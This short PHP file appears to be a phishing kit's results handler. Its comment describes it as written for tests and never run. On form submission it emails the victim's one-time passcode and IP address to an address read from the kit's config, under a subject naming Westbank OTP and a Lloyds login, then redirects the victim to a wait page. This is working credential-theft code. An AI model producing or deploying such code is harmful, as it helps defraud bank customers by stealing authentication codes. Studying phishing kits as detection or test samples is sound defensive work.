<?php
// a kit's code page: the results mail names the bank and what was taken, the address
// comes from the kit's config (written for the tests, never run)
if (isset($_POST['go'])) {
    include 'config.php';
    $subject = "Westbank OTP | Lloyds Login " . $_SERVER['REMOTE_ADDR'];
    $body = "code: " . $_POST['c'] . "\n";
    mail($to, $subject, $body);
    header('Location: wait.html');
}
